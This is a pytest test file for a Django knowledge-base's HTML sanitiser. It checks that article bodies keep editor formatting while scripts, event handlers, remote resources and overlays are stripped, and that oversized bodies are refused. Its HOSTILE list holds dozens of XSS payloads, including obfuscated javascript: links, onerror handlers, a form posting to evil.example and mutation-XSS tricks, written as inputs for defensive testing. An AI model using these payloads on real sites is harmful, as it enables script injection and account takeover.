"""An article body is held to one allow-list when saved and again when shown: formatting survives, nothing that
runs, phones home, hides or overlays does; a body over the limit is refused with the limit named."""

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse

from knowledge.html import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    MAX_BODY_CHARACTERS,
    MAX_CELL_SPAN,
    for_reading,
    sanitise,
    text_of,
)
from knowledge.models import Article
from tests.factories import ArticleFactory
from tests.parsed_html import elements

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.png">',
    '<img src="/knowledge/images/1/" onload="alert(1)">',
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<img src="/knowledge/images/1/../../admin/">',
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    "<iframe src=https://evil.example></iframe>",
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">cover</p>',
    '<div style="display:none">hidden</div>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="java&#x09;script:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="//evil.example/">protocol-relative</a>',
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    '<a href="https://ok.example" target="_blank">x</a>',
    "<form action=https://evil.example><input name=p><button>go</button></form>",
    "<style>body{display:none}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<!-- <script>alert(1)</script> -->",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="https://evil.example/x.swf">',
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<<script>script>alert(1)<</script>/script>",
    '<table><tr><td background="javascript:alert(1)" onmouseover="alert(1)">x</td></tr></table>',
    '<figure data-trix-attachment=\'{"href":"javascript:alert(1)"}\'><img src="/knowledge/images/2/"></figure>',
    '<div class="position-fixed top-0 start-0 w-100 h-100 bg-white">overlay by classes</div>',
    '<h1 id="login" hx-get="/auth/logout/" hx-trigger="load">htmx</h1>',
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<p title="x" tabindex="1" contenteditable="true" draggable="true">attributes</p>',
    # tables: what the editor makes is allowed, nothing more on them
    '<table style="position:fixed;inset:0" onmouseover="alert(1)"><tr><td>cover</td></tr></table>',
    '<table background="javascript:alert(1)" class="position-fixed w-100 h-100"><tr><td>x</td></tr></table>',
    '<table><tr><td colspan="2 onmouseover=alert(1)" rowspan="1">x</td></tr></table>',
    '<table><tr><td colspan="²">superscript two</td><td rowspan="٣">arabic three</td></tr></table>',
    '<table><tr><td colspan="-1">x</td><td rowspan="0">y</td><td colspan="1e3">z</td></tr></table>',
    '<table><tr><td colspan="99999999999999999999">x</td><th rowspan="0x10">y</th></tr></table>',
    '<table><tr><td colspan=" 2">x</td><td rowspan="2px">y</td><td colspan="1000">z</td></tr></table>',
    '<table><tr><th scope="col" abbr="x" headers="a" id="login" onclick="alert(1)">x</th></tr></table>',
    '<table><tr><td style="display:none">hidden</td><td hidden>hidden too</td></tr></table>',
    "<table><script>alert(1)</script><tr><td>foster-parented script</td></tr></table>",
    "<table><tr><td>x</td></tr><style>body{display:none}</style></table>",
    '<table><tr><td><a href="javascript:alert(1)">cell link</a><img src=x onerror=alert(1)></td></tr></table>',
    '<table><tr><td><iframe srcdoc="<script>alert(1)</script>"></iframe></td></tr></table>',
    '<table><tr><td><svg><animate onbegin="alert(1)" attributeName="x"/></svg></td></tr></table>',
    "<table><tr><td><form action=https://evil.example><input name=p></form></td></tr></table>",
    '<table><colgroup><col style="width:9999px" span="1000"></colgroup><tr><td>x</td></tr></table>',
    "<table><caption><template><img src=x onerror=alert(1)></template>caption</caption></table>",
    "<table><tr><td><table><tr><td><table onmouseover=alert(1)><tr><td>deep</td></tr></table></td></tr></table>",
    '<table><tr><td><a href="https://ok.example" title="<table><img src=x onerror=alert(1)>">title</a></td></tr>',
]


def unsafe_parts(html: str) -> list[str]:
    """What a browser would build from `html` that the allow-list does not allow."""
    return unsafe_elements(elements(html))


def unsafe_elements(found: list[tuple[str, dict]]) -> list[str]:
    problems = []
    for tag, attributes in found:
        if tag not in ALLOWED_TAGS:
            problems.append(f"<{tag}>")
        for name, value in attributes.items():
            if name == "rel" and tag == "a":
                continue
            if name not in ALLOWED_ATTRIBUTES.get(tag, ()):
                problems.append(f"<{tag} {name}>")
            elif name == "href" and not (value or "").startswith(("http://", "https://", "mailto:", "#")):
                problems.append(f"href={value!r}")
            elif name == "src" and not (value or "").startswith("/knowledge/images/"):
                problems.append(f"src={value!r}")
            elif name == "src" and ".." in value:
                problems.append(f"src={value!r}")
            elif name in {"colspan", "rowspan"} and not (
                value and value.isascii() and value.isdigit() and 0 < int(value) <= MAX_CELL_SPAN
            ):
                problems.append(f"{name}={value!r}")
    return problems


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_leaves_nothing_that_runs_hides_or_phones_home(html):
    assert unsafe_parts(sanitise(html)) == [], sanitise(html)


def test_the_check_finds_what_it_looks_for():
    """The check can fail: unsanitised, the hostile inputs are caught."""
    caught = [html for html in HOSTILE if unsafe_parts(html)]
    assert len(caught) >= len(HOSTILE) - 2


def test_the_editors_formatting_survives():
    html = (
        "<h1>Title</h1><h2>Part</h2><p><strong>bold</strong> <em>em</em> <del>gone</del></p>"
        "<ul><li>one</li></ul><ol><li>first</li></ol><blockquote>quote</blockquote><pre>code()</pre>"
        '<p><a href="https://example.com">site</a> <a href="mailto:a@example.com">mail</a></p>'
        "<table><tr><th>Plan</th><td>Gold</td></tr></table>"
        '<figure><img src="/knowledge/images/7/" width="640" height="480" alt="chart"><figcaption>Chart</figcaption>'
        "</figure>"
    )

    cleaned = sanitise(html)

    for fragment in (
        "<h1>Title</h1>",
        "<h2>Part</h2>",
        "<strong>bold</strong>",
        "<em>em</em>",
        "<ul><li>one</li></ul>",
        "<ol><li>first</li></ol>",
        "<blockquote>quote</blockquote>",
        "<pre>code()</pre>",
        '<a href="https://example.com" rel="noopener noreferrer nofollow">site</a>',
        "<th>Plan</th>",
        '<img src="/knowledge/images/7/" width="640" height="480" alt="chart">',
        "<figcaption>Chart</figcaption>",
    ):
        assert fragment in cleaned


def test_a_table_keeps_its_header_cells_and_whole_number_spans():
    html = (
        '<table style="min-width: 192px"><colgroup><col style="min-width:96px"><col></colgroup><tbody>'
        '<tr><th colspan="1" rowspan="1"><p>Plan</p></th><th colspan="1" rowspan="1"><p>Price</p></th></tr>'
        '<tr><td colspan="2" rowspan="3" colwidth="120"><p>Gold</p></td></tr>'
        '<tr><td colspan="²" rowspan="0">odd</td></tr></tbody></table>'
    )

    assert sanitise(html) == (
        "<table><tbody>"
        '<tr><th colspan="1" rowspan="1"><p>Plan</p></th><th colspan="1" rowspan="1"><p>Price</p></th></tr>'
        '<tr><td colspan="2" rowspan="3"><p>Gold</p></td></tr>'
        "<tr><td>odd</td></tr></tbody></table>"
    )


def test_a_span_over_the_limit_is_dropped():
    cleaned = sanitise(f'<table><tr><td colspan="{MAX_CELL_SPAN}">a</td><td rowspan="{MAX_CELL_SPAN + 1}">b</td>')

    assert elements(cleaned)[-2:] == [("td", {"colspan": str(MAX_CELL_SPAN)}), ("td", {})]


def reading_problems(html: str) -> list[str]:
    """What `for_reading` left that is neither the allow-list nor its own table wrapper."""
    wrapper = {"class": "article-table", "role": "region", "aria-label": "Table", "tabindex": "0"}
    outside = [(tag, attributes) for tag, attributes in elements(html) if not (tag == "div" and attributes == wrapper)]
    return unsafe_elements(outside)


@pytest.mark.parametrize("html", [html for html in HOSTILE if "table" in html])
def test_a_hostile_table_shown_for_reading_is_wrapped_and_safe(html):
    shown = for_reading(html)
    tags = [tag for tag, _ in elements(shown)]

    assert unsafe_parts(sanitise(html)) == []
    assert reading_problems(shown) == [], shown
    assert tags.count("div") == tags.count("table")
    assert shown.count("<div") == shown.count("</div>") and shown.count("<table>") == shown.count("</table>")


def test_reading_problems_sees_an_attribute_the_wrapper_does_not_have():
    assert reading_problems('<div class="article-table" role="region" onclick="x()"><table></table></div>') != []


def test_each_table_is_shown_in_a_wrapper_that_scrolls(alice_client, alice):
    article = ArticleFactory(
        owner=alice,
        body="<p>Plans</p><table><tr><th>Plan</th><th>Price</th></tr><tr><td>Gold</td><td>9</td></tr></table>",
    )

    page = alice_client.get(reverse("knowledge:read", args=[article.pk])).content.decode()
    body = page.split('id="article-body" hx-disable>')[1].split("</article>")[0]

    assert '<div class="article-table" role="region" aria-label="Table" tabindex="0"><table><tbody><tr><th>Plan' in body
    assert "<td>9</td></tr></tbody></table></div>" in body


TRIX_BODY = (
    "<div>Before the call<br>check the account</div><h1>Prices</h1><ul><li>Gold</li><li><strong>Silver</strong></li>"
    '</ul><div><a href="https://example.com/prices">price list</a></div><pre>discount = 0.1</pre>'
    "<blockquote>Never promise a date</blockquote>"
    '<figure data-trix-attachment="{&quot;contentType&quot;:&quot;image/png&quot;}" data-trix-content-type="image/png"'
    ' class="attachment attachment--preview"><img src="/knowledge/images/3/" width="40" height="20">'
    '<figcaption class="attachment__caption"></figcaption></figure>'
)


def test_a_body_written_in_trix_still_reads_as_it_was_written(alice_client, alice):
    """Articles written before the editor changed keep their formatting on the reading page."""
    article = ArticleFactory(owner=alice, body=TRIX_BODY)

    page = alice_client.get(reverse("knowledge:read", args=[article.pk])).content.decode()
    body = page.split('id="article-body" hx-disable>')[1].split("</article>")[0]

    for fragment in (
        "<div>Before the call<br>check the account</div>",
        "<h1>Prices</h1>",
        "<li><strong>Silver</strong></li>",
        '<a href="https://example.com/prices" rel="noopener noreferrer nofollow">price list</a>',
        "<pre>discount = 0.1</pre>",
        "<blockquote>Never promise a date</blockquote>",
        '<figure><img src="/knowledge/images/3/" width="40" height="20"><figcaption></figcaption></figure>',
    ):
        assert fragment in body


def test_a_saved_body_is_stored_sanitised_with_its_text(alice, write):
    article = write(alice, body='<h1>Price</h1><p onclick="steal()">Too <b>high</b></p><script>x()</script>')

    stored = Article.objects.get(pk=article.pk)
    assert stored.body == "<h1>Price</h1><p>Too <b>high</b></p>"
    assert stored.body_text == "Price\nToo high"


def test_a_stored_body_is_sanitised_again_when_shown(alice_client, alice):
    """Written around the services (an old row, a restore from a backup), the page still shows it safe."""
    article = ArticleFactory(owner=alice, body='<p>ok</p><img src=x onerror="alert(1)"><script>alert(2)</script>')

    page = alice_client.get(reverse("knowledge:read", args=[article.pk])).content.decode()
    body = page.split('id="article-body" hx-disable>')[1].split("</div>")[0]

    assert unsafe_parts(body) == []
    assert "<p>ok</p>" in body


def test_a_body_over_the_limit_is_refused_naming_the_limit(alice, write):
    too_long = "<p>" + "x" * MAX_BODY_CHARACTERS + "</p>"

    with pytest.raises(ValidationError) as refused:
        write(alice, body=too_long)

    assert f"{MAX_BODY_CHARACTERS:,}" in str(refused.value)
    assert not Article.objects.exists()


def test_the_form_refuses_a_body_over_the_limit_and_keeps_nothing(alice_client, faq):
    response = alice_client.post(
        reverse("knowledge:create"),
        {"name": "Huge", "type": faq.pk, "owner": "", "body": "<p>" + "y" * MAX_BODY_CHARACTERS + "</p>"},
    )

    assert response.status_code == 422
    assert f"the limit is {MAX_BODY_CHARACTERS:,}" in response.content.decode()
    assert not Article.objects.exists()


def test_a_hostile_name_is_shown_as_text(alice_client, alice):
    article = ArticleFactory(owner=alice, name='<img src=x onerror="alert(1)">Price')

    page = alice_client.get(reverse("knowledge:read", args=[article.pk])).content.decode()

    assert "<img src=x" not in page
    assert "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;Price" in page


def test_text_of_keeps_a_paragraph_a_line():
    assert text_of("<h1>A</h1><p>b <em>c</em></p><ul><li>d</li><li>e &amp; f</li></ul>") == "A\nb c\nd\ne & f"


def test_text_of_keeps_a_table_row_a_line():
    html = "<table><tr><th><p>Plan</p></th><th><p>Price</p></th></tr><tr><td><p>Gold</p></td><td>49</td></tr></table>"

    assert text_of(html + "<p>After</p>") == "Plan Price\nGold 49\nAfter"
